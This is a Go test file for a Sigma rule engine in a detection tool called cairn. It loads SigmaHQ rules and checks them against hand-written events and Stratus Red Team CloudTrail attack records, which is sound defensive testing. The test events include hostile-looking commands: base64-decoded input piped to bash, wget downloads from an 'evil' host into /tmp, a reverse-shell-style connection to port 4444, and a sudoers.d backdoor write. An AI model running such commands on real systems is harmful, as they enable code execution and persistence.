package sigma_test

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/cairn-cdr/cairn"
	"github.com/cairn-cdr/cairn/decode"
	"github.com/cairn-cdr/cairn/sigma"
)

// corpus is the shared third-party data, relative to the package.
const corpus = "../../shared/corpus"

// corpusDirs are the Sigma rule directories cairn supports.
var corpusDirs = []string{"linux/process_creation", "linux/file_event", "linux/network_connection", "cloud/aws"}

// needCorpus skips the test when the shared corpus is absent.
func needCorpus(tb testing.TB) {
	tb.Helper()
	if _, err := os.Stat(filepath.Join(corpus, "rules/sigma/rules")); err != nil {
		tb.Skipf("shared corpus not found at %s (%v): corpus tests skipped", corpus, err)
	}
}

// corpusFiles reads the .yml files under a directory of the Sigma rules.
func corpusFiles(tb testing.TB, dir string) []sigma.File {
	tb.Helper()
	var files []sigma.File
	err := filepath.WalkDir(filepath.Join(corpus, "rules/sigma/rules", dir), func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || filepath.Ext(p) != ".yml" {
			return err
		}
		data, err := os.ReadFile(p)
		files = append(files, sigma.File{Name: p, Data: data})
		return err
	})
	if err != nil {
		tb.Fatal(err)
	}
	return files
}

// corpusRules loads the supported corpus rules.
func corpusRules(tb testing.TB) *sigma.RuleSet {
	tb.Helper()
	var files []sigma.File
	for _, d := range corpusDirs {
		files = append(files, corpusFiles(tb, d)...)
	}
	rs, err := sigma.Load(files...)
	if err != nil {
		tb.Fatal(err)
	}
	return rs
}

// eventSink collects decoded events.
type eventSink struct{ events []*cairn.Event }

func (s *eventSink) Event(ev cairn.Event) error { s.events = append(s.events, &ev); return nil }

func (s *eventSink) Reject(dl cairn.DeadLetter) error { return nil }

// stratusEvents decodes the Stratus Red Team CloudTrail records, by file
// base name.
func stratusEvents(tb testing.TB) map[string][]*cairn.Event {
	tb.Helper()
	paths, err := filepath.Glob(filepath.Join(corpus, "cloudtrail/stratus/*.json"))
	if err != nil || len(paths) == 0 {
		tb.Skipf("no Stratus CloudTrail records in the corpus (%v)", err)
	}
	out := map[string][]*cairn.Event{}
	for _, p := range paths {
		data, err := os.ReadFile(p)
		if err != nil {
			tb.Fatal(err)
		}
		var s eventSink
		if err := decode.Decode(context.Background(), bytes.NewReader(data), p, decode.CloudTrail, &s); err != nil {
			tb.Fatal(err)
		}
		out[strings.TrimSuffix(filepath.Base(p), ".json")] = s.events
	}
	return out
}

// TestCorpusLoads loads the supported SigmaHQ rule directories and checks
// the load targets: every CloudTrail rule, and at least 95% of the linux
// process_creation rules; the others may only be skipped for fields
// cairn lacks.
func TestCorpusLoads(t *testing.T) {
	needCorpus(t)
	for _, dir := range corpusDirs {
		files := corpusFiles(t, dir)
		rs, err := sigma.Load(files...)
		if err != nil {
			t.Fatalf("%s: %v", dir, err)
		}
		t.Logf("%s: %d files, %s", dir, len(files), rs.Summary())
		if len(rs.Rules)+len(rs.Skipped) != len(files) {
			t.Errorf("%s: %d rules + %d skipped for %d files", dir, len(rs.Rules), len(rs.Skipped), len(files))
		}
		switch dir {
		case "cloud/aws":
			if len(rs.Skipped) > 0 || len(rs.Rules) < 50 {
				t.Errorf("%s: %d loaded, skipped %+v", dir, len(rs.Rules), rs.Skipped)
			}
		case "linux/process_creation":
			if 100*len(rs.Rules) < 95*len(files) || len(files) < 100 {
				t.Errorf("%s: %d of %d loaded", dir, len(rs.Rules), len(files))
			}
		}
		for _, s := range rs.Skipped {
			if len(s.Fields) == 0 {
				t.Errorf("%s: %s skipped for a reason other than fields: %s", dir, filepath.Base(s.File), s.Reason)
			}
		}
	}
	// Unsupported logsources are skipped as such.
	rs, err := sigma.Load(corpusFiles(t, "linux/auditd")...)
	if err != nil {
		t.Fatal(err)
	}
	if len(rs.Rules) != 0 || len(rs.Skipped) == 0 || len(rs.SkippedFor("service: auditd not supported: cairn has no such events")) != len(rs.Skipped) {
		t.Errorf("auditd: %d loaded, %s", len(rs.Rules), rs.Summary())
	}
}

// ruleByFile returns the loaded rule of a corpus file, by base name.
func ruleByFile(tb testing.TB, rs *sigma.RuleSet, base string) *sigma.Rule {
	tb.Helper()
	for _, r := range rs.Rules {
		if filepath.Base(r.File) == base {
			return r
		}
	}
	tb.Fatalf("corpus rule %s not loaded", base)
	return nil
}

// TestCorpusRulesFire checks corpus rules on hand-written events that show
// their behaviour, and on benign ones.
func TestCorpusRulesFire(t *testing.T) {
	needCorpus(t)
	rs := corpusRules(t)
	omigod := execEv("/bin/sh", "-c id", "/opt/omi/bin/omiagent", "")
	omigod.Process.LoginUID, omigod.Process.Cwd = i64(0), "/var/opt/microsoft/scx/tmp"
	for _, c := range []struct {
		rule    string
		yes, no []*cairn.Event
	}{
		{"proc_creation_lnx_base64_execution.yml",
			[]*cairn.Event{execEv("/bin/sh", "-c echo aWQK | base64 -d | bash", "", ""), execEv("/bin/sh", "-c base64 -d x.b64 |sh -s", "", "")},
			[]*cairn.Event{execEv("/usr/bin/base64", "-d x.b64", "", ""), execEv("/bin/sh", "-c cat x | bash", "", "")}},
		{"proc_creation_lnx_wget_download_suspicious_directory.yml",
			[]*cairn.Event{execEv("/usr/bin/wget", "http://evil/x -O /tmp/x", "", ""), execEv("/usr/bin/wget", "--output-document=/tmp/x http://evil/x", "", "")},
			[]*cairn.Event{execEv("/usr/bin/wget", "http://evil/x -o /tmp/log", "", ""), execEv("/usr/bin/wget", "http://evil/x -O /home/x", "", "")}},
		{"proc_creation_lnx_chmod_targeting_sensitive_directories.yml",
			[]*cairn.Event{execEv("/usr/bin/chmod", "+x /tmp/payload", "/bin/bash", "")},
			[]*cairn.Event{execEv("/usr/bin/chmod", "700 /tmp/apt-key-gpghome.XYZ", "/usr/bin/apt-key", ""),
				execEv("/usr/bin/chmod", "0775 /etc/landscape/", "", ""), execEv("/usr/bin/chmod", "+x /home/a", "", "")}},
		{"proc_creation_lnx_susp_inod_listing.yml",
			[]*cairn.Event{execEv("/usr/bin/ls", "-lid /", "", ""), execEv("/usr/bin/ls", "--inode --directory /", "", "")},
			[]*cairn.Event{execEv("/usr/bin/ls", "-la /", "", ""), execEv("/usr/bin/ls", "-id /home", "", "")}},
		{"proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml",
			[]*cairn.Event{omigod},
			[]*cairn.Event{execEv("/bin/sh", "-c id", "", "")}},
		{"net_connection_lnx_susp_malware_callback_port.yml",
			[]*cairn.Event{netEv("/tmp/x", "connect", "10.0.0.5", 40000, "203.0.113.7", 4444), netEv("/tmp/x", "connect", "fd00::1", 40000, "2001:db8::1", 2222)},
			[]*cairn.Event{netEv("/tmp/x", "connect", "10.0.0.5", 40000, "10.0.0.7", 4444), netEv("/usr/sbin/sshd", "accept", "203.0.113.7", 40000, "10.0.0.5", 4444),
				netEv("/tmp/x", "connect", "10.0.0.5", 40000, "203.0.113.7", 443), netEv("/tmp/x", "connect", "fd00::1", 40000, "fd00::2", 2222)}},
		{"file_event_lnx_persistence_sudoers_files.yml",
			[]*cairn.Event{fileEv("/usr/bin/tee", "/etc/sudoers.d/backdoor", "write")},
			[]*cairn.Event{fileEv("/usr/bin/dpkg", "/etc/sudoers.d/README.dpkg-new", "write"), fileEv("/usr/bin/tee", "/etc/sudoers", "write")}},
	} {
		r := ruleByFile(t, rs, c.rule)
		for i, ev := range c.yes {
			if !r.Match(ev) {
				t.Errorf("%s: positive event %d (%s) did not match", c.rule, i, ev.Process.Cmdline())
			}
		}
		for i, ev := range c.no {
			if r.Match(ev) {
				t.Errorf("%s: negative event %d (%s) matched", c.rule, i, ev.Process.Cmdline())
			}
		}
	}
}

// TestCorpusCloudTrail runs every supported corpus rule over the Stratus
// Red Team attack records and checks which rules each attack triggers.
func TestCorpusCloudTrail(t *testing.T) {
	needCorpus(t)
	e := sigma.NewEngine(corpusRules(t).Rules)
	evs := stratusEvents(t)
	want := map[string]string{
		"aws.defense-evasion.vpc-remove-flow-logs":                    "aws_cloudtrail_vpc_flow_logs_deleted.yml:1",
		"aws.exfiltration.ec2-security-group-open-port-22-ingress":    "aws_cloudtrail_security_group_change_ingress_egress.yml:1",
		"aws.exfiltration.ec2-share-ebs-snapshot":                     "aws_snapshot_backup_exfiltration.yml:1",
		"aws.persistence.iam-create-admin-user":                       "aws_iam_backdoor_users_keys.yml:1",
		"aws.persistence.lambda-layer-extension":                      "aws_new_lambda_layer_attached.yml:1",
		"aws.privilege-escalation.iam-update-user-login-profile":      "aws_update_login_profile.yml:1",
		"aws.execution.ssm-send-command":                              "aws_cloudtrail_ssm_malicious_usage.yml:1",
		"aws.impact.bedrock-invoke-model":                             "aws_sts_assumerole_misuse.yml:15",
		"aws.credential-access.secretsmanager-batch-retrieve-secrets": "",
		"aws.defense-evasion.dns-delete-logs":                         "",
	}
	for name, w := range want {
		if evs[name] == nil {
			t.Errorf("no records for %s", name)
			continue
		}
		hits := map[string]int{}
		for _, ev := range evs[name] {
			for _, m := range e.Eval(ev) {
				hits[filepath.Base(m.Rule.File)]++
				if !m.Rule.Match(ev) {
					t.Errorf("%s: engine match of %s not confirmed by Rule.Match", name, m.Rule.Title)
				}
			}
		}
		var got []string
		for r, n := range hits {
			got = append(got, r+":"+strconv.Itoa(n))
		}
		sort.Strings(got)
		if strings.Join(got, " ") != w {
			t.Errorf("%s: rules triggered %q, want %q", name, got, w)
		}
	}
}

// TestEngineAgreesWithMatch checks the engine's index and per-event field
// cache: on every benchmark event, Eval returns exactly the rules whose
// own Match accepts the event, in load order.
func TestEngineAgreesWithMatch(t *testing.T) {
	needCorpus(t)
	rules := corpusRules(t).Rules
	e := sigma.NewEngine(rules)
	total := 0
	for i, ev := range benchEvents(t) {
		var want, got []string
		for _, r := range rules {
			if r.Match(ev) {
				want = append(want, r.Title)
			}
		}
		for _, m := range e.Eval(ev) {
			got = append(got, m.Rule.Title)
		}
		if strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("event %d: Eval = %q, Match = %q", i, got, want)
		}
		total += len(got)
	}
	if total < 500 {
		t.Errorf("only %d matches over the benchmark events: the events no longer exercise the rules", total)
	}
}
